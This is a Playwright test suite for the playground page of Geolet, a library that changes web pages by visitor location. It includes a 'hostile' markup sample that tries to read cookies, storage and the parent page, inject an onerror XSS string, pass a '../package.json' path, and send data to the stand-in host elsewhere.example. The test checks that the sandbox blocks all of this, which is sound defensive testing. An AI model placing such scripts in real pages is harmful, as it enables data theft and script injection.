import type { FrameLocator, Page } from '@playwright/test';
import { examples } from '../../../demo/page/playground/examples.js';
import { playgroundLink } from '../../../demo/page/playground/link.js';
import { violations } from '../support/accessibility.ts';
import { layoutFaults } from '../demo/layout-faults.ts';
import { expect, visibleText } from '../support/test.ts';
import { holdRequests } from '../visitor/told.ts';
import { test } from './support.ts';

const live = (page: Page): FrameLocator => page.frameLocator('#playground-frame');
const events = (page: Page) => page.locator('#playground-events');

async function open(page: Page, built: string, markup: string, visitor = 'osaka'): Promise<void> {
  await page.goto(`${built}/playground.html${playgroundLink({ markup, visitor })}`);
}

/** What the playground's page says. Its frame may just be loading again. */
function read(page: Page): Promise<string> {
  return visibleText(live(page).locator('body')).catch((error: unknown) => String(error));
}

/** What each example shows to a visitor from Lyon, and to one whose location is unknown. */
const shown: Readonly<Record<string, readonly [lyon: RegExp, unknown: RegExp]>> = {
  'Show local prices': [/€169 €139 Laces: €5\.50/, /\$179 \$149 Laces: \$6\.00/],
  'Show prices by country from a price book': [/€45 Laces: \$6\.00/, /\$49 Laces: \$6\.00/],
  'Say one price everywhere': [
    /€45 Structured data: 45 EUR Buy for EUR 45/,
    /\$49 Structured data: 49 USD Buy for USD 49/,
  ],
  'Say how long delivery takes': [/Delivery to Lyon Free, in 2 to 3 days/, /Delivery to your door Worldwide/],
  'Say when an order arrives': [
    /Order within .+: delivered .+ On the way: 1–2 working days/,
    /Delivered in 5 to 9 working days On the way: 5 to 9 working days/,
  ],
  'Say what is left until delivery is free': [
    /Left until free delivery: €20/,
    /Left until free delivery: see your cart/,
  ],
  'Change a page beside its HTML': [/Chaussures pour Lyon €45 Free delivery, no duties\./, /^Shoes for the city \$49$/],
  'Greet visitors in their language': [/Bonjour ! We ship to France/, /Hello! We ship to your country/],
  'Show a banner in the EU only': [/We ask before we count visits/, /We ask before we count visits/],
  'Link to the right country page': [/Pricing in France/, /^Pricing in all countries$/],
  'Tell opening hours and times': [/Our workshop (is open until|opens) .* sets out Jan 16, 2027/, /Our workshop/],
  'Find the nearest shop': [/Try them on: \w+, [\d,.]+ km away/, /Porto, Berlin, New York and Osaka/],
  'Let visitors choose their country': [/Ship to .*€139/, /\$149/],
  'Know the country from a header': [
    /Shoes for France €139 No duties\. Nobody is asked, so your city stays as written/,
    /Shoes for every country \$149 Nobody is asked, so your city stays as written/,
  ],
  'Suggest another shop': [/Notre boutique parle français/, /^Shoes for walking Choose Lyon/],
  'Let visitors opt out': [/^Shoes for walking Do not sell my data$/, /^Shoes for walking Do not sell my data$/],
  'React in JavaScript': [/You are a visitor from France/, /You are a visitor from somewhere/],
};

test('each example shows what it is named for, and no mistake @rare', async ({ page, built }) => {
  test.setTimeout(120_000);
  await page.addInitScript(() => {
    let opened: unknown;
    addEventListener('message', ({ data: { type, number, lines } }) => {
      if (type === 'opened') {
        opened = number;
        Object.assign(globalThis, { mistakes: undefined });
      } else if (type === 'mistakes' && number === opened) Object.assign(globalThis, { mistakes: lines });
    });
  });
  await page.goto(`${built}/playground.html`);
  await expect.poll(() => read(page)).not.toBe('');
  for (const { name } of examples)
    await test.step(name, async () => {
      const [lyon = /^$/, unknown = /^$/] = shown[name] ?? [];
      await page.getByLabel('Example').selectOption(name);
      await page.getByLabel('Visitor').selectOption('Lyon');
      await expect(page.locator('#playground-where')).toHaveText(
        name.includes('header') ? 'Seen from France' : 'Seen from Lyon, France',
      );
      await expect.poll(() => read(page), name).toMatch(lyon);
      await expect.poll(() => page.evaluate('mistakes'), name).toEqual([]);
      await page.getByLabel('Visitor').selectOption('Location unknown');
      await expect(page.locator('#playground-where')).toHaveText('Location unknown');
      await expect.poll(() => read(page), name).toMatch(unknown);
      await expect(page.locator('#playground-check')).toBeHidden();
    });
});

test('mistakes are listed without a click, each with its fix', async ({ page, built, expectLines }) => {
  expectLines(/\[geolet\] unusable-value/);
  await open(page, built, '<geo-if country="Frnace" hidden>Bonjour</geo-if><p data-geo-txt="{city}">city</p>');
  const list = page.getByRole('list', { name: '2 to check' });
  await expect(list.getByRole('listitem')).toHaveText([/"frnace".*did you mean country="FR"/, /data-geo-text/]);
  await page.getByLabel('Visitor').selectOption('Lyon');
  await expect(page.locator('#playground-where')).toHaveText('Seen from Lyon, France');
  await expect(list.getByRole('listitem')).toHaveCount(2);
  const markup = '<geo-if country="FR" hidden>Bonjour</geo-if><p data-geo-text="{city}">city</p>';
  await page.getByRole('textbox', { name: 'HTML' }).fill(markup);
  await expect.poll(() => read(page)).toBe('Bonjour Lyon');
  await expect(page.locator('#playground-check')).toBeHidden();
});

test('a lookup that is to fail is no mistake @rare', async ({ page, built, expectLines }) => {
  expectLines(/\[geolet\] (?:http|unusable-value)/);
  await open(page, built, '<geo-if country="Frnace" hidden>Bonjour</geo-if>', 'fails');
  await expect(page.locator('#playground-mistakes').getByRole('listitem')).toHaveText([/"frnace"/]);
});

test('a page is shown once, also when the page before it has asked, too @rare', async ({ page, built }) => {
  const release = await holdRequests(page, '**/playground/modules.json');
  const loaded = () => page.waitForEvent('requestfinished', (request) => request.url().endsWith('playground/frame.js'));
  const [first] = await Promise.all([loaded(), page.goto(`${built}/playground.html`, { waitUntil: 'commit' })]);
  expect(first.frame().url()).toContain('playground-frame');
  await Promise.all([loaded(), page.getByLabel('Example').selectOption('Greet visitors in their language')]);
  await expect.poll(() => page.frames().length).toBe(2);
  await page.frames()[1]?.waitForLoadState();
  release();
  await page.getByLabel('Visitor').selectOption('Lyon');
  await expect.poll(() => read(page)).toContain('Bonjour');
});

test('what was meant for the page before is not shown @rare', async ({ page, built }) => {
  const release = await holdRequests(page, '**/playground/modules.json');
  const loaded = page.waitForEvent('requestfinished', (request) => request.url().endsWith('playground/frame.js'));
  await Promise.all([loaded, page.goto(`${built}/playground.html`, { waitUntil: 'commit' })]);
  await page.frames()[1]?.waitForLoadState();
  await page.locator('#playground-frame').evaluate((frame: HTMLIFrameElement) => {
    const late = { type: 'show', page: 'before', markup: '<p>Late</p>', lookup: 'found', record: {}, modules: {} };
    frame.contentWindow?.postMessage(late, '*');
  });
  release();
  await expect.poll(() => read(page)).toContain('Laces');
  expect(await read(page)).not.toContain('Late');
});

test('a page that opens while the next one loads does not stay @rare', async ({ page, built }) => {
  const release = await holdRequests(page, '**/playground/modules.json');
  let pages = 0;
  // The second page never comes: the first one, once it opens, ends its loading.
  await page.route('**/playground-frame.html', (route) => (++pages === 2 ? undefined : route.continue()));
  const loaded = page.waitForEvent('requestfinished', (request) => request.url().endsWith('playground/frame.js'));
  await Promise.all([loaded, page.goto(`${built}/playground.html`, { waitUntil: 'commit' })]);
  await page.frames()[1]?.waitForLoadState();
  await page.getByLabel('Visitor').selectOption('Lyon');
  await expect.poll(() => pages).toBe(2);
  release();
  await expect(page.locator('#playground-where')).toHaveText('Seen from Lyon, France');
});

test('a page that reads the country from a header asks only where its tag names an endpoint @rare', async ({
  page,
  built,
}) => {
  const markup = '<script>/* npx geolet snippet header */</script>TAG<p data-geo-text="{city}">your city</p>';
  const told = () => events(page).getByRole('listitem').allTextContents();
  await open(page, built, markup.replace('TAG', ''), 'lyon');
  await expect.poll(told).toEqual(['geo-readyheader FR']);
  expect(await read(page)).toBe('your city');
  await open(page, built, markup.replace('TAG', '<script src="/geolet.js" data-endpoint="/geo"></script>'), 'lyon');
  await expect.poll(() => read(page)).toBe('Lyon');
  expect(await told()).toEqual(['geo-changenetwork FR', 'geo-readyheader FR']);
});

test('any country can be chosen @rare', async ({ page, built }) => {
  await open(page, built, '<geo-text template="{country}, {currency}">Somewhere</geo-text>');
  await page.getByLabel('Visitor').selectOption({ label: 'Iceland' });
  await expect.poll(() => read(page)).toBe('Iceland, Icelandic Króna');
});

test('a lookup that fails leaves the page as written, and says so @rare', async ({ page, built, expectLines }) => {
  expectLines(/\[geolet\] http/);
  await open(page, built, '<geo-text template="{city}">your city</geo-text>', 'fails');
  await expect(events(page)).toContainText('geo-error');
  await expect(page.locator('#playground-where')).toHaveText('The lookup failed: the page as written');
  expect(await read(page)).toBe('your city');
});

test('a slow lookup changes the page when it comes @rare', async ({ page, built, expectLines }) => {
  expectLines(/\[geolet\] timeout/);
  await open(page, built, '<geo-text template="{city}">your city</geo-text>', 'slow');
  await expect(events(page).getByRole('listitem').filter({ hasText: 'geo-change' })).toHaveText(
    'geo-changenetwork FR',
    {
      timeout: 10_000,
    },
  );
  await expect(events(page).getByRole('listitem').filter({ hasText: 'geo-ready' })).toHaveText('geo-readynone');
  await expect.poll(() => read(page)).toBe('Lyon');
});

test('the page follows what is typed, and the address with it @rare', async ({ page, built }) => {
  await page.goto(`${built}/playground.html`);
  await page.getByRole('textbox', { name: 'HTML' }).fill('<p data-geo-text="Hello, {city}">Hello</p>');
  await expect.poll(() => read(page)).toBe('Hello, Osaka');
  const { hash } = new URL(page.url());
  expect(hash).toBe(playgroundLink({ markup: '<p data-geo-text="Hello, {city}">Hello</p>', visitor: 'osaka' }));
});

test('a link shares markup and visitor, and sends nothing of it @rare', async ({ page, built, context }) => {
  const requests: string[] = [];
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, built, '<p data-geo-text="Über {city} 🌍">Über</p>', 'berlin');
  await page.getByRole('button', { name: 'Copy link' }).click();
  await expect(page.locator('#playground-note')).toHaveText('Link copied.');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await context.newPage();
  other.on('request', (request) => requests.push(request.url() + (request.postData() ?? '')));
  await other.goto(link);
  await expect.poll(() => visibleText(live(other).locator('body'))).toBe('Über Berlin 🌍');
  await expect(other.getByLabel('Visitor')).toHaveValue('berlin');
  const beyond = requests.map((url) => url.replace(/#.*/, '')).filter((url) => !url.startsWith('data:'));
  expect(beyond.filter((url) => !url.startsWith(`${built}/`))).toEqual([]);
  expect(beyond.join('\n')).not.toMatch(/html=|Berlin\b/);
  await other.close();
});

test('a broken link shows the first example, and says so @rare', async ({ page, built }) => {
  await page.goto(`${built}/playground.html#as=lyon&html=%%%`);
  await expect(page.locator('#playground-note')).toHaveText(/incomplete/);
  await expect.poll(() => read(page)).toMatch(/The Asterisk/);
});

test('clicking says why, also by keyboard, and a link is a link again afterwards @rare', async ({ page, built }) => {
  await open(
    page,
    built,
    '<geo-currency prices="USD 9, JPY 900">$9</geo-currency> <a href="/x" data-geo-href="/{country:lower}/">Go</a>',
  );
  await expect.poll(() => read(page)).toContain('¥900');
  const words = page.locator('#playground-words');
  await expect(words).toBeHidden();
  await page.getByRole('button', { name: 'Explain' }).click();
  await live(page).locator('geo-currency').click();
  await expect(words).toContainText("the visitor's currency is JPY, which is in the list");
  await live(page).locator('a').click();
  await expect(words).toContainText('/{country:lower}/');
  await live(page).locator('geo-currency').press('Enter');
  await expect(words).toContainText('JPY');
  await page.getByRole('button', { name: 'Explain' }).click();
  await expect(words).toBeHidden();
  await live(page).locator('a').click();
  await expect(events(page)).toContainText('/jp/');
});

test('a script tag of Geolet in the markup gives its settings, and runs once @rare', async ({ page, built }) => {
  const tag = '<script async src="/geolet.js" data-endpoint="/geo" data-bindings="manual"></script>';
  await open(page, built, `${tag}<p data-geo-text="{city}">by hand</p><geo-text template="{city}">x</geo-text>`);
  await expect.poll(() => read(page)).toBe('by hand Osaka');
});

const hostile = `<p>Hostile</p><form action="https://elsewhere.example/form"><input name="a" value="b"></form>
<script>
const results = {};
const attempt = (name, run) => { try { results[name] = String(run()); } catch (error) { results[name] = error.name; } };
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('page', () => parent.document.title);
attempt('origin', () => origin);
attempt('top', () => { top.location = 'https://elsewhere.example/top'; });
attempt('window', () => open('https://elsewhere.example/window'));
attempt('form', () => { document.forms[0].submit(); });
const sent = [
  new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve('image'), onerror: () => resolve('no') }).src = 'https://elsewhere.example/image'),
  new Promise((resolve) => { const request = new XMLHttpRequest(); request.onload = () => resolve('request'); request.onerror = () => resolve('no'); request.open('GET', 'index.html'); request.send(); }),
  new Promise((resolve) => { const socket = new WebSocket('wss://elsewhere.example/'); socket.onopen = () => resolve('socket'); socket.onerror = () => resolve('no'); }).catch(() => 'no'),
];
Promise.all(sent).then((answers) => {
  parent.postMessage({ type: 'event', name: 'done', words: JSON.stringify({ ...results, answers }) }, '*');
  parent.postMessage({ type: 'explained', words: '<img src=x onerror=alert(1)>' }, '*');
  parent.postMessage({ type: 'file', name: '../package.json' }, '*');
  parent.postMessage(null, '*');
  location = 'https://elsewhere.example/frame?' + document.title;
});
</script>`;

test('a hostile link reaches nothing of the site, and sends nothing anywhere', async ({ page, built, expectLines }) => {
  expectLines(/./);
  const left: string[] = [];
  page.on('requestfinished', (request) => left.push(request.url()));
  await page.addInitScript(() => localStorage.setItem('secret', 'of the site'));
  const refused = page.waitForEvent('console', (message) => /frame-src|Framing/.test(message.text()));
  await open(page, built, hostile);
  const said = await events(page).getByText('"answers"').textContent();
  await refused;
  expect(JSON.parse(said ?? '')).toEqual({
    cookie: 'SecurityError',
    storage: 'SecurityError',
    page: 'SecurityError',
    origin: 'null',
    top: 'SecurityError',
    window: 'null',
    form: 'undefined',
    answers: ['no', 'no', 'no'],
  });
  expect(left.filter((url) => !url.startsWith(`${built}/`) && !url.startsWith('data:'))).toEqual([]);
  expect(page.url()).toContain(`${built}/playground.html#`);
  await expect(page.locator('#playground-words img')).toHaveCount(0);
  await expect(page.getByRole('heading', { name: 'Playground' })).toBeVisible();
});

test('the playground is worked by keyboard alone @rare', async ({ page, built }) => {
  await page.goto(`${built}/playground.html`);
  await expect(page.locator('#playground-where')).toHaveText('Seen from Osaka, Japan');
  await page.getByLabel('Example').focus();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Tab');
  await page.keyboard.type('Iceland');
  await expect(page.locator('#playground-where')).toHaveText('Seen from Iceland');
  for (const name of ['Explain', 'Change by pointing', 'Copy link']) {
    await page.keyboard.press('Tab');
    await expect(page.getByRole('button', { name })).toBeFocused();
  }
  await page.keyboard.press('Tab');
  await expect(page.getByRole('textbox', { name: 'HTML' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(page.getByRole('textbox', { name: 'HTML' })).not.toBeFocused();
});

for (const [width, scheme] of [
  [1280, 'light'],
  [390, 'dark'],
] as const) {
  test(`the playground is whole and accessible at ${width} px, ${scheme} @rare`, async ({ browser, built }) => {
    const page = await browser.newPage({ bypassCSP: true, viewport: { width, height: 800 }, colorScheme: scheme });
    await page.goto(`${built}/playground.html`);
    await expect(page.locator('#playground-where')).toHaveText('Seen from Osaka, Japan');
    await page.getByRole('button', { name: 'Explain' }).click();
    expect(await violations(page)).toEqual([]);
    expect(await layoutFaults(page)).toEqual([]);
    await page.close();
  });
}

test('a visitor may have a browser that sends the signal, and the next none @rare', async ({ page, built }) => {
  await open(
    page,
    built,
    '<p data-geo-show="gpc" hidden>signal</p><p data-geo-show="group: usoptout unknown" hidden>states</p>',
    'signal',
  );
  await expect.poll(() => read(page)).toMatch(/signal\s+states/);
  await page.getByLabel('Visitor').selectOption({ label: 'Los Angeles' });
  await expect.poll(() => read(page)).toMatch(/^\s*states\s*$/);
  await page.getByLabel('Visitor').selectOption({ label: 'Berlin' });
  await expect.poll(() => read(page)).toMatch(/^\s*$/);
});

test('the live page is changed by pointing at it, as on a page of the owner @rare', async ({ page, built }) => {
  await open(page, built, '<main><h1 id="title">Shoes for walking</h1></main>');
  await page.getByRole('button', { name: 'Change by pointing' }).click();
  await expect(page.locator('#playground-note')).toContainText('Change this page');
  const control = live(page).getByRole('region', { name: 'Preview of this page' });
  await control.getByRole('button', { name: 'Change this page' }).click();
  const panel = live(page).getByRole('region', { name: 'Change this page' });
  await panel.getByRole('button', { name: 'Choose from a list' }).click();
  await panel.getByRole('treeitem', { name: /^Heading 1/ }).press('Enter');
  await panel.getByLabel('New words').fill('Shoes for {city}');
  await expect(live(page).locator('#title')).toHaveText('Shoes for Osaka');
  await panel.getByRole('button', { name: 'Keep this change' }).click();
  await expect(panel.getByLabel('To copy')).toHaveValue(
    /{"select":"#title","text":"Shoes for {city}","replaces":"Shoes for walking"}/,
  );
  await page.getByRole('button', { name: 'Change by pointing' }).click();
  await expect(live(page).locator('#title')).toHaveText('Shoes for walking');
  await expect(live(page).locator('geo-preview')).toHaveCount(0);
});
